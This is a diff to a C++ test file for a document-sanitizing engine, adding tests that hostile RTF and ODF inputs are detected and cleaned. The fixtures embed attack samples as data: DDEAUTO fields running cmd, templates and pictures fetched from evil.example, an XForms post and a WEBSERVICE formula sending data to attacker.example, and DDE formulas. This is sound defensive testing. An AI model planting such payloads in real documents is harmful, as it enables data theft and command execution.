@@ -3,9 +3,6 @@
 #include <gtest/gtest.h>
 #include <pugixml.hpp>
 
-#include <gsf/gsf-outfile-msole.h>
-#include <gsf/gsf-outfile.h>
-#include <gsf/gsf-output-memory.h>
 #include <vips/vips.h>
 #include <zlib.h>
 
@@ -20,6 +17,7 @@
 namespace sanso::cdr {
 namespace {
 
+using fixtures::compound_file;
 using fixtures::kinds;
 namespace fs = std::filesystem;
 
@@ -342,40 +340,6 @@ TEST(CdrRtf, ObjectsKeepTheirPictureDangerousFieldsKeepTheirTextTemplatesGo) {
   EXPECT_EQ(open.reason, "malformed");
 }
 
-// A compound file written by libgsf: each path ("macros/vba/dir") a stream, its folders storages.
-std::string compound_file(const std::vector<std::pair<std::string, std::string>>& streams) {
-  GsfOutput* memory = gsf_output_memory_new();
-  GsfOutfile* root = gsf_outfile_msole_new(memory);
-  std::map<std::string, GsfOutfile*> storages{{"", root}};
-  std::vector<GsfOutput*> open;  // closed children first, the root last
-  for (const auto& [path, data] : streams) {
-    std::string parent;
-    std::size_t from = 0;
-    for (std::size_t slash; (slash = path.find('/', from)) != std::string::npos; from = slash + 1) {
-      std::string dir = path.substr(0, slash);
-      if (!storages.count(dir)) {
-        GsfOutput* s = gsf_outfile_new_child(storages[parent], path.substr(from, slash - from).c_str(), TRUE);
-        storages[dir] = GSF_OUTFILE(s);
-        open.push_back(s);
-      }
-      parent = dir;
-    }
-    GsfOutput* stream = gsf_outfile_new_child(storages[parent], path.substr(from).c_str(), FALSE);
-    gsf_output_write(stream, data.size(), reinterpret_cast<const guint8*>(data.data()));
-    gsf_output_close(stream);
-    g_object_unref(stream);
-  }
-  for (auto it = open.rbegin(); it != open.rend(); ++it) {
-    gsf_output_close(*it);
-    g_object_unref(*it);
-  }
-  gsf_output_close(GSF_OUTPUT(root));
-  g_object_unref(root);
-  std::string out(reinterpret_cast<const char*>(gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(memory))), static_cast<std::size_t>(gsf_output_size(memory)));
-  g_object_unref(memory);
-  return out;
-}
-
 // A Word 97 WordDocument stream and 1Table stream whose piece table holds `text` (8-bit).
 std::pair<std::string, std::string> word_streams(const std::string& text) {
   fixtures::Bytes doc;
@@ -527,6 +491,29 @@ TEST(CdrRtf, DestinationsAreFoundWhereverWordFindsThemAndOnlyKnownOnesAreWritten
   EXPECT_TRUE(kinds(text_only).count("hyperlink"));
   EXPECT_EQ(text_only.output.find("city.example"), std::string::npos);
   EXPECT_NE(text_only.output.find("市のページ"), std::string::npos);
+}
+
+// The fuzz targets' second reader (rtf_active_content) finds objects, templates, linked
+// pictures and forbidden fields in hostile RTF, and nothing in what the engine wrote from it.
+TEST(CdrRtf, TheSecondReaderFindsActiveContentInInputsAndNoneInOutputs) {
+  for (const char* raw : {"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd \"/c calc\"}{\\fldrslt x}}}",
+                          "{\\rtf1{\\field{\\*\\fldinst \\'44DE c:\\\\\\\\windows\\\\\\\\cmd.exe}{\\fldrslt x}}}", "{\\rtf1{\\*\\template http://evil.example/t.dotm}}",
+                          "{\\rtf1{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://evil.example/a.png}}}}}",
+                          "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\o \"tip\" \"file://attacker/share/x.lnk\"}{\\fldrslt x}}}"}) {
+    EXPECT_FALSE(internal::rtf_active_content(raw).empty()) << raw;
+    CdrResult r = run(raw, "a.rtf");
+    if (r.verdict != Verdict::blocked) {
+      const auto left = internal::rtf_active_content(r.output);
+      EXPECT_TRUE(left.empty()) << raw << " → " << r.output << ": " << left.front();
+    }
+  }
+  for (const auto& c : hostile_rtf()) {
+    CdrResult r = run(c.rtf, "a.rtf");
+    ASSERT_NE(r.verdict, Verdict::blocked) << c.rtf;
+    const auto left = internal::rtf_active_content(r.output);
+    EXPECT_TRUE(left.empty()) << c.rtf << " → " << r.output << ": " << left.front();
+  }
+  EXPECT_TRUE(internal::rtf_active_content("{\\rtf1 pibName is a word; {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}").empty()) << "text and harmless fields are not findings";
 }
 
 // LibreOffice, as a second reader, finds no field, object or link in what the engine wrote, and
@@ -682,6 +669,111 @@ TEST(CdrOdf, ScriptsObjectsAndMacroFieldsAreFoundByNamespaceNotPrefix) {
   EXPECT_NE(fodt.find("SAFE text"), std::string::npos);
   for (const char* active : {"event-listener", "Module1", "dom:load", "execute-macro", "draw:object"}) EXPECT_EQ(fodt.find(active), std::string::npos) << active;
   fs::remove_all(dir);
+}
+
+// #21: ODF XML is written with only the namespaces ODF and LibreOffice define, each under its
+// standard prefix. An XForms submission to a server, DOM event attributes, a vendor element
+// carrying text, a prefix ("table") bound to the text namespace, and a prefix rebound to the
+// script namespace on one element all passed before, since only a few known names were removed.
+TEST(CdrOdf, OnlyOdfNamespacesSurviveUnderTheirStandardPrefixes) {
+  const std::string content =
+      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
+      "<x:document-content xmlns:x=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
+      " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:xf=\"http://www.w3.org/2002/xforms\""
+      " xmlns:ev=\"http://www.w3.org/2001/xml-events\" xmlns:v=\"urn:vendor:active\" xmlns:q=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" x:version=\"1.3\">"
+      "<x:body><x:text><xf:model><xf:submission xf:action=\"http://attacker.example/collect\" xf:method=\"post\"/></xf:model>"
+      "<t:p ev:event=\"DOMActivate\" v:onload=\"run()\">SAFE text</t:p>"
+      "<table:p>rebound paragraph</table:p>"
+      "<t:p><t:span xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\">hidden script</t:span></t:p>"
+      "<v:payload>vendor payload</v:payload>"
+      "<t:p><t:variable-set t:name=\"n\" t:formula=\"q:=1+1\">2</t:variable-set></t:p>"
+      "</x:text></x:body></x:document-content>";
+  CdrResult r = run(odt_with_parts(content, {}, ""), "通知.odt");
+  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
+  EXPECT_TRUE(kinds(r).count("unknown_xml"));
+  EXPECT_TRUE(kinds(r).count("odf_script"));
+  // A second reader: every name in the rebuilt part resolves, through the root's declarations
+  // only, to an ODF namespace under its standard prefix.
+  const std::string out = fixtures::unzip(r.output)["content.xml"];
+  pugi::xml_document doc;
+  ASSERT_TRUE(doc.load_buffer(out.data(), out.size())) << out;
+  const std::map<std::string, std::string> standard = {
+      {"office", "urn:oasis:names:tc:opendocument:xmlns:office:1.0"}, {"text", "urn:oasis:names:tc:opendocument:xmlns:text:1.0"},
+      {"of", "urn:oasis:names:tc:opendocument:xmlns:of:1.2"}, {"script", "urn:oasis:names:tc:opendocument:xmlns:script:1.0"},
+      {"xml", "http://www.w3.org/XML/1998/namespace"}};
+  std::map<std::string, std::string> declared{{"xml", "http://www.w3.org/XML/1998/namespace"}};
+  for (pugi::xml_attribute a : doc.document_element().attributes()) {
+    const std::string n = a.name();
+    if (n.rfind("xmlns:", 0) == 0) declared[n.substr(6)] = a.value();
+    EXPECT_NE(n, "xmlns") << "no default namespace";
+  }
+  for (const auto& [prefix, uri] : declared) {
+    ASSERT_TRUE(standard.count(prefix)) << prefix << " = " << uri;
+    EXPECT_EQ(standard.at(prefix), uri) << prefix;
+  }
+  for (pugi::xpath_node xn : doc.select_nodes("//*")) {
+    const pugi::xml_node e = xn.node();
+    const std::string name = e.name();
+    ASSERT_NE(name.find(':'), std::string::npos) << name;
+    EXPECT_TRUE(declared.count(name.substr(0, name.find(':')))) << name;
+    for (pugi::xml_attribute a : e.attributes()) {
+      const std::string an = a.name();
+      if (e == doc.document_element() && an.rfind("xmlns:", 0) == 0) continue;
+      EXPECT_EQ(an.rfind("xmlns", 0), std::string::npos) << "a declaration below the root: " << an;
+      ASSERT_NE(an.find(':'), std::string::npos) << an;
+      EXPECT_TRUE(declared.count(an.substr(0, an.find(':')))) << an;
+    }
+  }
+  for (const char* gone : {"attacker", "submission", "DOMActivate", "run()", "vendor payload", "hidden script"}) EXPECT_EQ(out.find(gone), std::string::npos) << gone;
+  EXPECT_TRUE(doc.select_node("//text:p[text()='rebound paragraph']")) << out;
+  EXPECT_TRUE(doc.select_node("//text:p[text()='SAFE text']")) << out;
+  EXPECT_TRUE(doc.select_node("//text:variable-set[@text:formula='of:=1+1']")) << "a formula's grammar prefix follows the rename: " << out;
+  EXPECT_EQ(run(r.output, "通知.odt").verdict, Verdict::clean);
+  EXPECT_TRUE(internal::package_active_content(r.output).empty());
+}
+
+// #21: formulas that reach outside the document — LibreOffice's WEBSERVICE and DDE functions, a
+// reference into another file — lose the formula and keep the value last computed; an ordinary
+// formula stays.
+TEST(CdrOdf, FormulasThatReachOutsideGoAndTheirValuesStay) {
+  const std::string content =
+      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
+      " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:t=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
+      " xmlns:of=\"urn:oasis:names:tc:opendocument:xmlns:of:1.2\" office:version=\"1.3\"><office:body><office:text><t:table t:name=\"T\"><t:table-row>"
+      "<t:table-cell t:formula=\"of:=WEBSERVICE(&quot;http://attacker.example/?q=&quot;&amp;[.B1])\" office:value-type=\"string\"><text:p>cached1</text:p></t:table-cell>"
+      "<t:table-cell t:formula=\"of:=dde (&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)\" office:value-type=\"string\"><text:p>cached2</text:p></t:table-cell>"
+      "<t:table-cell t:formula=\"of:=['file:///C:/secret.ods'#$Sheet1.A1]\" office:value-type=\"float\" office:value=\"7\"><text:p>7</text:p></t:table-cell>"
+      "<t:table-cell t:formula=\"of:=SUM([.A1:.A2])\" office:value-type=\"float\" office:value=\"3\"><text:p>3</text:p></t:table-cell>"
+      "</t:table-row></t:table></office:text></office:body></office:document-content>";
+  CdrResult r = run(odt_with_parts(content, {}, ""), "表.odt");
+  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
+  std::size_t removed = 0;
+  for (const auto& f : r.findings) removed += f.kind == "external_formula";
+  EXPECT_EQ(removed, 3u);
+  const std::string out = fixtures::unzip(r.output)["content.xml"];
+  for (const char* gone : {"WEBSERVICE", "dde (", "secret.ods"}) EXPECT_EQ(out.find(gone), std::string::npos) << gone << ": " << out;
+  for (const char* kept : {"cached1", "cached2", "of:=SUM([.A1:.A2])", "office:value=\"7\""}) EXPECT_NE(out.find(kept), std::string::npos) << kept << ": " << out;
+  EXPECT_EQ(run(r.output, "表.odt").verdict, Verdict::clean);
+  // The second reader sees the three in the input and none in the output.
+  std::size_t seen = 0;
+  for (const auto& f : internal::package_active_content(odt_with_parts(content, {}, ""))) seen += f.find(" formula ") != std::string::npos;
+  EXPECT_EQ(seen, 3u);
+  EXPECT_TRUE(internal::package_active_content(r.output).empty());
+}
+
+// The fuzz targets' second reader (package_active_content) sees the script, the macro library,
+// the object and the macro field in the hostile ODF, and nothing in the rebuilt one.
+TEST(CdrOdf, TheSecondReaderFindsActiveContentInInputsAndNoneInOutputs) {
+  const auto found = internal::package_active_content(odt_with_prefixes());
+  std::string all;
+  for (const auto& f : found) all += f + "\n";
+  for (const char* want : {"Basic/Standard/Module1.xml", "<event-listener> script", "<execute-macro> script", "<object-ole> embedded object", "vnd.sun.star.script:"}) {
+    EXPECT_NE(all.find(want), std::string::npos) << want << " not in\n" << all;
+  }
+  CdrResult r = run(odt_with_prefixes(), "通知.odt");
+  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
+  const auto left = internal::package_active_content(r.output);
+  EXPECT_TRUE(left.empty()) << left.front();
 }
 
 TEST(CdrResultFormat, EncodedResultsRoundTripAndTruncationIsAnError) {
